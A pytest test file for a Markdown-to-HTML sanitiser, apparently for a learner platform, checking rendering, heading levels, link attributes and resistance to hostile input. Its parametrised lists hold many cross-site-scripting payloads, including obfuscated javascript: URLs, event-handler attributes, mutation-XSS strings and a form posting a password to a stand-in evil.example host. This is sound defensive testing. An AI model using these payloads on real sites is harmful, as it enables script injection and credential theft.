"""Learner Markdown becomes HTML that cannot run script, load anything, or restyle the page."""

from html.parser import HTMLParser

import pytest

from core.html import bracket_run, escape_unclosed_brackets, markdown_to_text, render_markdown

# From the product spec, written out again so a change to the module's allowlist fails here.
SPEC_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "del",
    "sup", "sub",
}  # fmt: skip
SPEC_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
REL = "nofollow noopener noreferrer"


class _Elements(HTMLParser):
    """Elements and attribute values as a browser reads them (character references decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def _links(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in _elements(html).found if tag == "a"]


def _assert_only_spec_markup(html: str) -> None:
    parsed = _elements(html)
    assert parsed.comments == []
    for tag, attrs in parsed.found:
        assert tag in SPEC_TAGS, html
        assert set(attrs) <= SPEC_ATTRIBUTES.get(tag, set()), html
        href = (attrs.get("href") or "").lower()
        if tag == "a":
            assert href.startswith(("http://", "https://", "mailto:")), html


# --- ordinary Markdown -----------------------------------------------------------------


@pytest.mark.parametrize("text", ["", " ", "\n\t  \n"])
def test_blank_input_renders_as_an_empty_string(text: str) -> None:
    assert render_markdown(text) == ""
    assert markdown_to_text(text) == ""


def test_paragraphs_and_emphasis_render() -> None:
    html = render_markdown("I *tried* a **new** method.\n\nIt worked.")
    assert html == "<p>I <em>tried</em> a <strong>new</strong> method.</p>\n<p>It worked.</p>"


def test_headings_start_at_h2_because_the_page_owns_the_h1() -> None:
    html = render_markdown("# One\n\n## Two\n\n### Three")
    assert html == "<h2>One</h2>\n<h3>Two</h3>\n<h4>Three</h4>"


def test_a_text_that_starts_at_level_two_starts_at_h2() -> None:
    # Writers often begin with "##"; an <h3> straight after the page's <h1> would skip a
    # level, which screen reader users navigating by heading hear as a missing section.
    html = render_markdown("## What happened\n\nText.\n\n### Detail\n\n## Next")
    assert html == "<h2>What happened</h2>\n<p>Text.</p>\n<h3>Detail</h3>\n<h2>Next</h2>"


def test_skipped_heading_levels_close_up() -> None:
    html = render_markdown("# One\n\n### Three\n\n###### Six")
    assert html == "<h2>One</h2>\n<h3>Three</h3>\n<h4>Six</h4>"


def test_headings_stop_at_h6() -> None:
    html = render_markdown("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6")
    assert "<h6>5</h6>" in html
    assert "<h6>6</h6>" in html


def test_setext_headings_shift_too() -> None:
    assert render_markdown("Title\n=====\n\nSub\n---") == "<h2>Title</h2>\n<h3>Sub</h3>"


def test_no_h1_is_ever_output() -> None:
    html = render_markdown("# Markdown\n\n<h1>Raw</h1>\n\nText")
    assert "<h1" not in html
    assert "Markdown" in html
    assert "Raw" in html


def test_tables_render_with_alignment_as_an_attribute() -> None:
    html = render_markdown("| Skill | Level |\n|:------|------:|\n| CPR | 3 |")
    assert "<table>" in html
    assert '<th align="left">Skill</th>' in html
    assert '<td align="right">3</td>' in html
    assert "style" not in html


def test_lists_render() -> None:
    html = render_markdown("1. first\n2. second\n\n* bullet")
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html
    assert "<ul>\n<li>bullet</li>\n</ul>" in html


def test_blockquote_rule_and_line_break_render() -> None:
    html = render_markdown("> quoted  \n> on two lines\n\n---")
    assert html == "<blockquote>\n<p>quoted<br>\non two lines</p>\n</blockquote>\n<hr>"


def test_fenced_code_is_escaped_not_run() -> None:
    html = render_markdown('```html\n<script>alert("x")</script>\n```')
    assert "&lt;script&gt;" in html
    assert "<script" not in html
    assert html.startswith("<pre><code>")


def test_inline_code_is_escaped() -> None:
    assert render_markdown("Use `<b>` for bold") == "<p>Use <code>&lt;b&gt;</code> for bold</p>"


def test_allowed_raw_inline_html_is_kept() -> None:
    html = render_markdown("H<sub>2</sub>O, x<sup>2</sup>, <del>wrong</del> <b>b</b> <i>i</i>")
    assert html == "<p>H<sub>2</sub>O, x<sup>2</sup>, <del>wrong</del> <b>b</b> <i>i</i></p>"


# --- hostile raw HTML ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "before <script>alert(1)</script> after",
        "before\n\n<script>\nalert(1)\n</script>\n\nafter",
        'before <SCRIPT type="text/javascript">alert(1)</SCRIPT> after',
        'before <script src="https://evil.example/x.js"></script> after',
        "before <svg><script>alert(1)</script></svg> after",
    ],
)
def test_script_elements_are_removed_with_their_content(text: str) -> None:
    html = render_markdown(text)
    assert "script" not in html.lower()
    assert "alert" not in html
    assert "evil" not in html
    assert "before" in html
    assert "after" in html


@pytest.mark.parametrize(
    "text",
    [
        "before <style>p { color: red }</style> after",
        "before\n\n<style>\nbody { background: url(https://evil.example/t.png) }\n</style>\n\n"
        "after",
    ],
)
def test_style_elements_are_removed_with_their_content(text: str) -> None:
    html = render_markdown(text)
    assert "style" not in html
    assert "color" not in html
    assert "url(" not in html
    assert "evil" not in html
    assert "before" in html
    assert "after" in html


@pytest.mark.parametrize(
    "element",
    [
        '<iframe src="https://evil.example/">frame text</iframe>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<object data="https://evil.example/x.swf">fallback</object>',
        '<embed src="https://evil.example/x.swf">',
        '<svg onload="alert(1)"><circle r="9"/></svg>',
        '<svg><a xlink:href="javascript:alert(1)"><text>evil</text></a></svg>',
        '<math><mtext><a href="javascript:alert(1)">evil</a></mtext></math>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<template><img src=x onerror=alert(1)></template>",
    ],
)
def test_embedding_elements_are_removed(element: str) -> None:
    html = render_markdown(f"before {element} after")
    for dangerous in ("iframe", "object", "embed", "svg", "math", "evil", "alert", "<img"):
        assert dangerous not in html
    assert "before" in html
    _assert_only_spec_markup(html)


def test_forms_are_removed_but_their_text_stays() -> None:
    html = render_markdown(
        'before <form action="https://evil.example/steal" method="post">'
        '<input name="password"><button formaction="javascript:alert(1)">Send</button>'
        "</form> after"
    )
    for dangerous in ("form", "input", "button", "evil", "javascript", "password"):
        assert dangerous not in html
    assert "Send" in html
    assert "after" in html


@pytest.mark.parametrize(
    "text",
    [
        '<p onclick="alert(1)">harmless</p>',
        '<b onmouseover="alert(1)">harmless</b>',
        '<a href="https://example.org" onfocus="alert(1)" autofocus>harmless</a>',
        '<td align="left" onmouseover="alert(1)">harmless</td>',
        '<details open ontoggle="alert(1)">harmless</details>',
        "<p ONCLICK=alert(1)>harmless</p>",
    ],
)
def test_event_handler_attributes_are_removed(text: str) -> None:
    html = render_markdown(text)
    assert "alert" not in html
    assert " on" not in html.lower()
    assert "harmless" in html


@pytest.mark.parametrize(
    "text",
    [
        '<p style="color: red">harmless</p>',
        '<p style="background-image: url(javascript:alert(1))">harmless</p>',
        '<p style="width: expression(alert(1))">harmless</p>',
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">harmless</div>',
        '<a href="https://example.org" style="color:red">harmless</a>',
    ],
)
def test_style_attributes_are_removed(text: str) -> None:
    html = render_markdown(text)
    for dangerous in ("style", "url(", "expression", "alert", "position"):
        assert dangerous not in html
    assert "harmless" in html


@pytest.mark.parametrize(
    "text",
    [
        "![diagram](https://tracker.example/pixel.png)",
        '![diagram](https://tracker.example/pixel.png "title")',
        "![diagram][ref]\n\n[ref]: https://tracker.example/pixel.png",
        '<img src="https://tracker.example/pixel.png" alt="diagram">diagram',
        "<img src=x onerror=alert(1)>diagram",
        '<IMG SRC="javascript:alert(1)">diagram',
    ],
)
def test_images_are_never_output(text: str) -> None:
    html = render_markdown(text)
    assert "<img" not in html.lower()
    assert "tracker" not in html
    assert "alert" not in html
    assert "diagram" in html


def test_a_markdown_image_inside_a_link_leaves_a_text_link() -> None:
    html = render_markdown("[![our logo](https://tracker.example/logo.png)](https://example.org)")
    assert html == f'<p><a href="https://example.org" rel="{REL}">our logo</a></p>'


def test_html_comments_are_removed() -> None:
    html = render_markdown("before <!-- <script>alert(1)</script> --> after")
    assert "<!--" not in html
    assert "alert" not in html
    assert "after" in html


# --- hostile links ---------------------------------------------------------------------

HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#X6a;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097script:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "   javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,alert(1)",
]
LINK_FORMS = {
    "inline": "[click](%s)",
    "inline with title": '[click](%s "title")',
    "reference": "[click][ref]\n\n[ref]: %s",
    "raw anchor": '<a href="%s">click</a>',
    "raw anchor single quotes": "<a href='%s'>click</a>",
    "raw anchor in a paragraph": '<p><a HREF="%s">click</a></p>',
}


@pytest.mark.parametrize("form", LINK_FORMS.values(), ids=LINK_FORMS.keys())
@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_javascript_links_are_removed(form: str, url: str) -> None:
    html = render_markdown(form % url)
    assert _links(html) == []
    assert "click" in html
    _assert_only_spec_markup(html)


@pytest.mark.parametrize(
    "autolink",
    [
        "<javascript:alert(1)>",
        "<JaVaScRiPt:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,x>",
    ],
)
def test_javascript_autolinks_are_removed(autolink: str) -> None:
    html = render_markdown(f"before {autolink} after")
    assert _links(html) == []
    assert "script" not in html.lower()
    assert "before" in html
    assert "after" in html


@pytest.mark.parametrize(
    "text",
    [
        "[photo](data:image/png;base64,iVBORw0KGgo=)",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">photo</a>',
        "[photo](data:text/plain,hello)",
    ],
)
def test_data_urls_are_refused(text: str) -> None:
    html = render_markdown(text)
    assert "data:" not in html
    assert _links(html) == []
    assert "photo" in html


@pytest.mark.parametrize(
    "url", ["/accounts/logout/", "//evil.example/x", "#top", "ftp://example.org/f", "file:///etc"]
)
def test_links_without_an_http_https_or_mailto_url_keep_only_their_text(url: str) -> None:
    html = render_markdown(f"[click]({url})")
    assert html == "<p>click</p>"


# --- links that are allowed ------------------------------------------------------------


def test_http_and_https_links_keep_their_url_and_title() -> None:
    html = render_markdown('[a](http://example.org/x?y=1&z=2) [b](https://example.org "Example")')
    assert _links(html) == [
        {"href": "http://example.org/x?y=1&z=2", "rel": REL},
        {"href": "https://example.org", "title": "Example", "rel": REL},
    ]


def test_mailto_links_are_allowed() -> None:
    html = render_markdown("[write to me](mailto:tutor@example.org) or <learner@example.org>")
    assert [link["href"] for link in _links(html)] == [
        "mailto:tutor@example.org",
        "mailto:learner@example.org",
    ]
    assert "write to me" in html


def test_every_link_gets_rel_nofollow_noopener_noreferrer() -> None:
    html = render_markdown(
        "[md](https://a.example) <a href='https://b.example' rel='opener'>raw</a> "
        "<https://c.example> and https://d.example.org"
    )
    links = _links(html)
    assert len(links) == 4
    assert all(link["rel"] == REL for link in links)


def test_links_never_get_a_target() -> None:
    html = render_markdown(
        '<a href="https://example.org" target="_blank">raw</a> https://x.example.org'
    )
    assert "target" not in html
    assert len(_links(html)) == 2


def test_bare_urls_are_linkified() -> None:
    html = render_markdown("see https://example.org/page for details")
    assert html == (
        f'<p>see <a href="https://example.org/page" rel="{REL}">https://example.org/page</a>'
        " for details</p>"
    )


def test_urls_in_code_are_not_linkified() -> None:
    html = render_markdown("`https://example.org`\n\n```\nhttps://example.org\n```")
    assert _links(html) == []


def test_linkify_does_not_create_links_for_other_schemes() -> None:
    html = render_markdown("ftp://example.org/file, javascript:alert(1) and vbscript:x")
    assert _links(html) == []
    assert "ftp://example.org/file" in html


# --- the whole output ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<svg><p><style><img src=x onerror="alert(1)"></style></p></svg>',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        '<a href="https://example.org" title="x" id="login" class="btn" name="n">x</a>',
        '<xmp><img src=x onerror="alert(1)"></xmp>',
        "<<script>script>alert(1)<</script>/script>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        '[a](https://example.org "t\\" onmouseover=\\"alert(1)")',
        "<video><source onerror=alert(1)></video>",
    ],
)
def test_output_contains_only_allowlisted_tags_attributes_and_urls(text: str) -> None:
    html = render_markdown(text)
    _assert_only_spec_markup(html)
    assert "<img" not in html


def test_large_input_renders_completely() -> None:
    paragraph = "A line with **bold**, a [link](https://example.org) and `code`.\n\n"
    html = render_markdown(paragraph * 500 + "The end.")
    assert html.count("<p>") == 501
    assert html.endswith("<p>The end.</p>")


# --- plain text --------------------------------------------------------------------------


def test_markdown_to_text_strips_markup_and_collapses_whitespace() -> None:
    text = markdown_to_text("# Week   one\n\nI *learned*   **a lot**.\n\n* first\n* second")
    assert text == "Week one I learned a lot. first second"


def test_markdown_to_text_keeps_table_cells_apart_and_decodes_entities() -> None:
    text = markdown_to_text("| a | b |\n|---|---|\n| Tom & Jerry | 1 < 2 |")
    assert text == "a b Tom & Jerry 1 < 2"


def test_markdown_to_text_drops_script_and_style_content() -> None:
    text = markdown_to_text("before <script>alert(1)</script><style>p{}</style> after")
    assert text == "before after"


def test_markdown_to_text_keeps_link_text_not_urls() -> None:
    assert markdown_to_text("read [the guide](https://example.org/guide)") == "read the guide"


# --- Inputs that would make rendering crawl --------------------------------------------


def test_many_unclosed_brackets_render_as_text_without_quadratic_work() -> None:
    text = "[x" * 20_000
    assert escape_unclosed_brackets(text).count("\\[") == 20_000
    html = render_markdown(text)
    assert html.startswith("<p>[x[x") and "<a" not in html


def test_a_few_unclosed_brackets_leave_the_text_untouched() -> None:
    text = "a [draft and `[code]` then [a link](https://example.org)"
    assert escape_unclosed_brackets(text) == text
    assert '<a href="https://example.org"' in render_markdown(text)


def test_links_still_work_among_many_unclosed_brackets() -> None:
    html = render_markdown("[" * 500 + " [site](https://example.org)")
    assert '<a href="https://example.org" rel="nofollow noopener noreferrer">site</a>' in html


@pytest.mark.parametrize("char", ["(", "[", "<", "{"])
def test_a_run_of_100_brackets_is_found(char: str) -> None:
    assert bracket_run("ok " + char * 100) == char
    assert bracket_run("ok " + char * 99) is None
